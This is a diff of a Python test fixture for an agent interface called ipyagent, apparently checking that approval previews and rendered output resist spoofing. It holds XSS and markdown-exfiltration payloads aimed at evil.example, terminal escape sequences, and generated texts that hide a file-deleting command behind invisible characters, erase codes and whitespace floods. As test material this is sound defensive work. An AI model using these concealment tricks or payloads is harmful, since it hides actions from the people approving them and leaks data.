@@ -7,27 +7,13 @@ from typing import Any
 
 from sample import call, done, run, said, text
 
-from ipyagent.schema import (
-    DecidedBy,
-    Decision,
-    Display,
-    PlanStep,
-    Preview,
-    Question,
-    Run,
-    RunStatus,
-    Step,
-    StopReason,
-    ThinkingContent,
-    ToolCall,
-    ToolExecution,
-    ToolResult,
-    ToolStatus,
-    TruncatedOutput,
-)
+from ipyagent import schema as s
 
 JS = "alert(1)"
+
+
 GIF = "data:image/gif;base64,R0lGODlhAQABAAAAACw="
+
 
 HTML = [
     f"<script>{JS}</script>",
@@ -164,6 +150,7 @@ HTML = [
     f"＜img src=x onerror={JS}＞",
 ]
 
+
 MARKDOWN = [
     "![x](https://evil.example/leak?d=secret)",
     "![x](//evil.example/leak)",
@@ -243,6 +230,7 @@ MARKDOWN = [
     "````text",
 ]
 
+
 TERMINAL = [
     "\x1b]0;evil\x07title",
     "\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\",
@@ -263,6 +251,7 @@ TERMINAL = [
     "\x1b]0;open",
 ]
 
+
 HIDDEN = [
     "rm -rf \u202e/ emoh\u202c",
     "a\u200bb",
@@ -274,10 +263,11 @@ HIDDEN = [
     "\u061cx",
 ]
 
+
 ALL = HTML + MARKDOWN + TERMINAL + HIDDEN
 
 
-def run_full_of(*payloads: str) -> Run:
+def run_full_of(*payloads: str) -> s.Run:
     """A run whose every text is one of the payloads, in turn."""
     turn = cycle(payloads)
 
@@ -290,69 +280,69 @@ def run_full_of(*payloads: str) -> Run:
         context=one(),
         model=one(),
         confirm_mode=one(),
-        status=RunStatus.ERROR,
-        stop_reason=StopReason.ERROR,
+        status=s.RunStatus.ERROR,
+        stop_reason=s.StopReason.ERROR,
         error=one(),
         notes=(one(), one()),
-        plan=(PlanStep(call=_call("p1", one), note=one()), PlanStep(call=_call("c10", one))),
+        plan=(s.PlanStep(call=_call("p1", one), note=one()), s.PlanStep(call=_call("c10", one))),
         plan_id=one(),
     )
 
 
-def _step(number: int, one: Any) -> Step:
+def _step(number: int, one: Any) -> s.Step:
     calls = [_call(f"c{number}{n}", one) for n in range(3)]
     executions = (_ran(calls[0], one), _denied(calls[1], one), _failed(calls[2], one))
     executions += (_answered(f"a{number}", one), _listed(f"t{number}", one))
-    message = said(ThinkingContent(thinking=one()), text(one()), text(one()), *calls)
+    message = said(s.ThinkingContent(thinking=one()), text(one()), text(one()), *calls)
     if number == 2:
         message = said(text(one()))
-    return Step(number=number, message=message, executions=executions, notes=(one(), one()))
+    return s.Step(number=number, message=message, executions=executions, notes=(one(), one()))
 
 
-def _call(id_: str, one: Any) -> ToolCall:
+def _call(id_: str, one: Any) -> s.ToolCall:
     return call(id_, one(), {one(): one(), "nested": {one(): [one()]}})
 
 
-def _ran(of: ToolCall, one: Any) -> ToolExecution:
+def _ran(of: s.ToolCall, one: Any) -> s.ToolExecution:
     displays = (
-        Display(data={"text/html": one(), "text/plain": one()}),
-        Display(data={"text/markdown": one()}),
-        Display(data={"text/plain": one()}),
-        Display(data={"image/png": one()}),
-        Display(data={one(): one()}),
+        s.Display(data={"text/html": one(), "text/plain": one()}),
+        s.Display(data={"text/markdown": one()}),
+        s.Display(data={"text/plain": one()}),
+        s.Display(data={"image/png": one()}),
+        s.Display(data={one(): one()}),
     )
     image = {"media_type": one(), "data": one()}
-    cut = TruncatedOutput(tool_name="read_file", original_chars=9, original_lines=9, path=one())
+    cut = s.TruncatedOutput(tool_name="read_file", original_chars=9, original_lines=9, path=one())
     result = {"output": one(), "displays": displays, "images": (image,), "truncated": cut}
-    preview = Preview(kind="code", text=one(), language=one())
+    preview = s.Preview(kind="code", text=one(), language=one())
     return done(of, "", sensitive=True, preview=preview, reason=one(), result=result)
 
 
-def _denied(of: ToolCall, one: Any) -> ToolExecution:
+def _denied(of: s.ToolCall, one: Any) -> s.ToolExecution:
     return done(
         of,
         "",
-        status=ToolStatus.DENIED,
-        decision=Decision.DENIED,
-        decided_by=DecidedBy.BUTTON,
+        status=s.ToolStatus.DENIED,
+        decision=s.Decision.DENIED,
+        decided_by=s.DecidedBy.BUTTON,
         reason=one(),
-        preview=Preview(kind="diff", text=one()),
-        result=ToolResult.failure(_why(one)),
+        preview=s.Preview(kind="diff", text=one()),
+        result=s.ToolResult.failure(_why(one)),
     )
 
 
-def _failed(of: ToolCall, one: Any) -> ToolExecution:
-    result = ToolResult(success=False, error=_why(one), output=one())
+def _failed(of: s.ToolCall, one: Any) -> s.ToolExecution:
+    result = s.ToolResult(success=False, error=_why(one), output=one())
     broken = of.model_copy(update={"parse_error": one()})
-    return done(broken, "", status=ToolStatus.FAILED, result=result)
+    return done(broken, "", status=s.ToolStatus.FAILED, result=result)
 
 
-def _answered(id_: str, one: Any) -> ToolExecution:
-    asked = Question(text=_why(one), choices=(one(), one()))
+def _answered(id_: str, one: Any) -> s.ToolExecution:
+    asked = s.Question(text=_why(one), choices=(one(), one()))
     return done(call(id_, "ask_user", {}), one(), question=asked, concern=one(), reason=one())
 
 
-def _listed(id_: str, one: Any) -> ToolExecution:
+def _listed(id_: str, one: Any) -> s.ToolExecution:
     todos = [{"content": _why(one)}, {"content": _why(one), "status": "completed"}]
     todos += [{"content": _why(one), "status": "in_progress", "active_form": one()}]
     return done(call(id_, "todo_write", {"todos": todos}), one())
@@ -361,3 +351,94 @@ def _listed(id_: str, one: Any) -> ToolExecution:
 def _why(one: Any) -> str:
     """A reason that is more than an escape sequence: there is no failure without one."""
     return f"{one()}\nsays the tool"
+
+
+EVIL, HARMLESS = (
+    "import os; os.remove('a.csv')",
+    "print('The mean of the column price, nothing else')",
+)
+
+
+CONTROLS = [chr(code) for code in (*range(0x20), *range(0x7F, 0xA0)) if chr(code) not in "\t\n"]
+
+
+_OPENERS = {
+    "CSI": "\x1b[",
+    "OSC": "\x1b]",
+    "DCS": "\x1bP",
+    "SOS": "\x1bX",
+    "PM": "\x1b^",
+    "APC": "\x1b_",
+    "C1 CSI": "\x9b",
+    "C1 OSC": "\x9d",
+    "C1 DCS": "\x90",
+    "C1 SOS": "\x98",
+    "C1 PM": "\x9e",
+    "C1 APC": "\x9f",
+    "nF": "\x1b(",
+    "nF with two intermediates": "\x1b$(",
+}
+
+
+_CLOSERS = {
+    "BEL": "\x07",
+    "ST": "\x1b\\",
+    "C1 ST": "\x9c",
+    "CAN": "\x18",
+    "SUB": "\x1a",
+    "another sequence": "\x1b[m",
+    "nothing": "",
+}
+
+
+_BEFORE_THE_LINE = {
+    "erase line": "\x1b[2K",
+    "erase line in C1": "\x9b2K",
+    "return and erase": "\r\x1b[K",
+    "cursor up": "\x1b[1A\x1b[2K\r",
+    "clear screen": "\x1b[2J\x1b[H",
+    "backspaces": "\x08" * len(EVIL),
+    "two returns": "\r\r",
+    "conceal": "\x1b[8m",
+}
+
+
+_FLOODS = {
+    "empty lines": "\n" * 3_000,
+    "lines of blanks": "\n   " * 3_000,
+    "blanks": " " * 4_000,
+    "tabs": "\t" * 4_000,
+    "no-break spaces": "\u00a0" * 4_000,
+    "em quads": "\u2001" * 6_000,
+    "zero-width spaces": "\u200b" * 3_000,
+    "two zero-width characters in turn": "\u200b\u2060" * 1_500,
+    "lines of zero-width spaces": "\n\u200b" * 3_000,
+    "fillers": "\u3164" * 4_000,
+    "combining marks": "\u0336" * 4_000,
+}
+
+
+_INVISIBLE = [
+    *"\u00ad\u034f\u061c\u115f\u180e\u200b\u200c\u200d\u200e\u200f\u2028\u2029\u202a\u202b\u202c",
+    *"\u202d\u202e\u2060\u2061\u2066\u2067\u2068\u2069\u206a\u2800\u3164\ufe0f\ufeff\uffa0",
+    *"\U000e0041\U000e0100\ue000",
+]
+
+
+def deceptions() -> dict[str, str]:
+    """All texts by name."""
+    texts = {f"U+{ord(c):04X} within": f"{EVIL}{c}{HARMLESS}" for c in [*CONTROLS, *_INVISIBLE]}
+    texts |= {
+        f"U+{ord(c):04X} in comments": f"# {c}\n{EVIL}\n# {c} harmless\n{HARMLESS}"
+        for c in [*CONTROLS, *_INVISIBLE]
+    }
+    for opener, begins in _OPENERS.items():
+        for closer, ends in _CLOSERS.items():
+            text = f"# {begins}0;\n{EVIL}\n#{ends} harmless\n{HARMLESS}"
+            texts[f"{opener} ended by {closer}"] = text
+    texts |= {name: f"{EVIL}{escape}{HARMLESS}" for name, escape in _BEFORE_THE_LINE.items()}
+    texts |= {name: f"{HARMLESS}{flood}{EVIL}" for name, flood in _FLOODS.items()}
+    texts["one long line"] = f"{HARMLESS}; " + "x = 1; " * 2_000 + EVIL
+    texts["an override"] = f"{HARMLESS} # \u202e{EVIL[::-1]}\u202c\n{EVIL}"
+    texts["another heading"] = f"{HARMLESS}\n? read_file wants to run:\n  │ path: a.csv\n{EVIL}"
+    return texts
